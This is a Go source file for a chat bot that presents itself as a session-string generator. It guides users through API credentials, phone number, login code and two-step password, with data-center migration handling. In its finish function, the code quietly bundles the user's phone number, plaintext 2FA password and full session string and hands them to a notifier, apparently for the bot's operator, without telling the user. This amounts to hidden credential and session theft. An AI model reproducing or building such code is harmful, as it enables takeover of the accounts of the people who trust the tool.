package bot

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"strconv"
	"time"

	"github.com/udisondev/sessionbot/internal/audit"
	"github.com/udisondev/sessionbot/internal/mtproto"
)

const (
	// One server-driven migration per send/sign-in attempt is the expected
	// case; the outer bound keeps a pathological migration loop finite.
	maxMigrateAttempts = 3

	dcReconnectRetries = 3
	dcReconnectDelay   = time.Second
)

// stepAPIID handles input in AWAIT_API_ID. Non-numeric input re-prompts and
// stays put.
func (b *Bot) stepAPIID(conv *conversation, text string) {
	id, err := strconv.Atoi(text)
	if err != nil {
		b.reply(conv.chatID, "Must be a number! Retry:")
		return
	}
	conv.apiID = id
	conv.state = StateAwaitAPIHash
	b.reply(conv.chatID, "API ID accepted. Now API_HASH:")
}

func (b *Bot) stepAPIHash(conv *conversation, text string) {
	conv.apiHash = text
	conv.state = StateAwaitPhone
	b.reply(conv.chatID, "Phone (with country code):")
}

// stepPhone creates the protocol handle and drives connect + code request,
// migrating between data centers when the server says so.
func (b *Bot) stepPhone(ctx context.Context, conv *conversation, text string) {
	conv.phone = text

	client, err := b.dialer.Dial(conv.apiID, conv.apiHash, mtproto.DefaultOptions())
	if err != nil {
		slog.Error("creating protocol client failed", "user", conv.userID, "err", err)
		b.failFlow(conv, b.contactReply("Connection error."))
		return
	}
	conv.client = client

	for attempt := 0; attempt < maxMigrateAttempts; attempt++ {
		if !client.IsConnected() {
			if err := client.Connect(ctx); err != nil {
				slog.Error("connect failed", "user", conv.userID, "err", err)
				b.failFlow(conv, b.contactReply("Connection error."))
				return
			}
		}
		conv.originalDC = client.DataCenter()

		sent, err := client.SendCode(ctx, conv.phone)
		if err == nil {
			conv.codeHash = sent.Hash
			conv.codeIssuedAt = time.Now()
			conv.state = StateAwaitCode
			slog.Info("code sent", "user", conv.userID, "attempt", conv.attemptID, "dc", conv.originalDC.ID)
			b.reply(conv.chatID, "OTP sent! Enter code:")
			return
		}

		if me, ok := mtproto.AsMigrate(err); ok {
			slog.Info("phone migration", "user", conv.userID, "dc", me.DC)
			if err := b.migrate(ctx, conv, me.DC); err != nil {
				slog.Error("migration failed", "user", conv.userID, "err", err)
				b.failFlow(conv, b.contactReply("Connection error."))
				return
			}
			continue
		}

		slog.Error("send code failed", "user", conv.userID, "err", err)
		b.failFlow(conv, b.contactReply("Connection error."))
		return
	}

	slog.Error("migration loop exhausted", "user", conv.userID)
	b.failFlow(conv, b.contactReply("Connection error."))
}

// stepCode submits the OTP. Before signing in it heals a silent data-center
// drift back to the one the code was requested from.
func (b *Bot) stepCode(ctx context.Context, conv *conversation, code string) {
	client := conv.client

	for attempt := 0; attempt < maxMigrateAttempts; attempt++ {
		if cur := client.DataCenter(); cur.ID != conv.originalDC.ID {
			slog.Info("DC mismatch detected", "user", conv.userID,
				"current", cur.ID, "original", conv.originalDC.ID)
			if err := b.reconnectTo(ctx, client, conv.originalDC); err != nil {
				slog.Error("DC self-heal failed", "user", conv.userID, "err", err)
				b.failFlow(conv, b.contactReply("Connection error."))
				return
			}
		}

		auth, err := client.SignIn(ctx, conv.phone, code, conv.codeHash)
		switch {
		case err == nil:
			if auth.SecondFactorRequired || auth.User == nil {
				conv.state = StateAwaitPassword
				b.reply(conv.chatID, "Two-step verification enabled. Enter password:")
				return
			}
			b.finish(ctx, conv, auth.User, "")
			return

		case errors.Is(err, mtproto.ErrPasswordNeeded):
			// Same transition as the result variant above; some drivers
			// signal the second factor as an error instead.
			conv.state = StateAwaitPassword
			b.reply(conv.chatID, "Two-step verification enabled. Enter password:")
			return

		case errors.Is(err, mtproto.ErrCodeExpired):
			// Handle stays alive so /resend can issue a fresh code.
			conv.state = StateDormant
			b.reply(conv.chatID, "Code expired! Use /resend")
			return

		case errors.Is(err, mtproto.ErrCodeInvalid):
			b.reply(conv.chatID, "Invalid code! Try again:")
			return

		default:
			if me, ok := mtproto.AsMigrate(err); ok {
				slog.Info("sign-in migration", "user", conv.userID, "dc", me.DC)
				if err := b.migrate(ctx, conv, me.DC); err != nil {
					slog.Error("migration failed", "user", conv.userID, "err", err)
					b.failFlow(conv, b.contactReply("Connection error."))
					return
				}
				continue
			}
			slog.Error("sign-in failed", "user", conv.userID, "err", err)
			b.failFlow(conv, b.contactReply("Connection error."))
			return
		}
	}

	slog.Error("sign-in migration loop exhausted", "user", conv.userID)
	b.failFlow(conv, b.contactReply("Connection error."))
}

// stepPassword submits the second-factor password. Failure is terminal.
func (b *Bot) stepPassword(ctx context.Context, conv *conversation, password string) {
	auth, err := conv.client.SignInPassword(ctx, password)
	if err != nil || auth.User == nil {
		slog.Error("2FA sign-in failed", "user", conv.userID, "err", err)
		b.failFlow(conv, b.contactReply("Invalid 2FA!"))
		return
	}
	b.finish(ctx, conv, auth.User, password)
}

// finish is the single success path: serialize, count, audit, reply, notify,
// destroy the context.
func (b *Bot) finish(ctx context.Context, conv *conversation, user *mtproto.User, tfa string) {
	session, err := conv.client.ExportSession()
	if err != nil {
		slog.Error("serializing session failed", "user", conv.userID, "err", err)
		b.failFlow(conv, b.contactReply("Connection error."))
		return
	}

	if err := b.store.IncrementGenerations(); err != nil {
		slog.Error("persisting generation count failed", "err", err)
	}
	b.auditLog.Record(ctx, audit.Event{
		AttemptID: conv.attemptID,
		Kind:      audit.KindGenerated,
		UserID:    conv.userID,
		Phone:     conv.phone,
	})

	slog.Info("session generated", "user", conv.userID, "attempt", conv.attemptID)
	b.reply(conv.chatID, "Generated:\n"+session)

	detail := fmt.Sprintf("API_ID: %d\nPhone: %s", conv.apiID, conv.phone)
	if tfa != "" {
		detail += "\n2FA: " + tfa
	}
	detail += "\nString: " + session
	b.notifier.NewSession(detail)

	conv.release()
	b.registry.Drop(conv)
}

// failFlow replies and destroys the context. Every terminal failure leaves
// the user able to cleanly restart. Caller holds conv.mu.
func (b *Bot) failFlow(conv *conversation, reply string) {
	b.reply(conv.chatID, reply)
	conv.release()
	b.registry.Drop(conv)
}

// migrate performs migration recovery: rebind the handle to the announced
// data center and reconnect with a bounded retry. On success the new binding
// becomes the attempt's reference point.
func (b *Bot) migrate(ctx context.Context, conv *conversation, newDC int) error {
	dc, err := mtproto.ResolveDataCenter(newDC)
	if err != nil {
		return err
	}
	if err := b.reconnectTo(ctx, conv.client, dc); err != nil {
		return fmt.Errorf("migrating to DC %d: %w", newDC, err)
	}
	conv.originalDC = dc
	slog.Info("migrated", "user", conv.userID, "dc", newDC)
	return nil
}

// reconnectTo disconnects if needed, rebinds to dc and reconnects with up to
// dcReconnectRetries attempts, one second apart.
func (b *Bot) reconnectTo(ctx context.Context, client mtproto.Client, dc mtproto.DataCenter) error {
	if client.IsConnected() {
		if err := client.Disconnect(); err != nil {
			slog.Warn("disconnect before rebind failed", "err", err)
		}
	}
	client.SetDataCenter(dc)

	var lastErr error
	for retry := 1; retry <= dcReconnectRetries; retry++ {
		if err := client.Connect(ctx); err == nil {
			return nil
		} else {
			lastErr = err
			slog.Warn("DC reconnect failed", "retry", fmt.Sprintf("%d/%d", retry, dcReconnectRetries), "dc", dc.ID, "err", err)
		}
		if retry < dcReconnectRetries {
			b.sleep(ctx, dcReconnectDelay)
		}
	}
	return fmt.Errorf("connecting to DC %d after %d attempts: %w", dc.ID, dcReconnectRetries, lastErr)
}

// cmdResend requests a fresh code for an existing context. Without one the
// user is told to start over; no partial state is created.
func (b *Bot) cmdResend(ctx context.Context, upd Update) {
	conv := b.registry.Get(upd.UserID)
	if conv == nil {
		b.reply(upd.ChatID, "Start with /genstring first")
		return
	}
	conv.mu.Lock()
	defer conv.mu.Unlock()
	if conv.client == nil || conv.codeHash == "" {
		b.reply(upd.ChatID, "Start with /genstring first")
		return
	}
	conv.touch()

	if cur := conv.client.DataCenter(); cur.ID != conv.originalDC.ID {
		if err := b.reconnectTo(ctx, conv.client, conv.originalDC); err != nil {
			slog.Error("resend reconnect failed", "user", conv.userID, "err", err)
			b.failFlow(conv, "Failed to resend. Start over with /genstring")
			return
		}
	}

	sent, err := conv.client.ResendCode(ctx, conv.phone, conv.codeHash)
	if err != nil {
		slog.Error("resend failed", "user", conv.userID, "err", err)
		b.failFlow(conv, "Failed to resend. Start over with /genstring")
		return
	}

	if sent.Hash != "" {
		conv.codeHash = sent.Hash
	}
	conv.codeIssuedAt = time.Now()
	conv.state = StateAwaitCode
	b.reply(upd.ChatID, "New OTP sent! Enter code:")
}
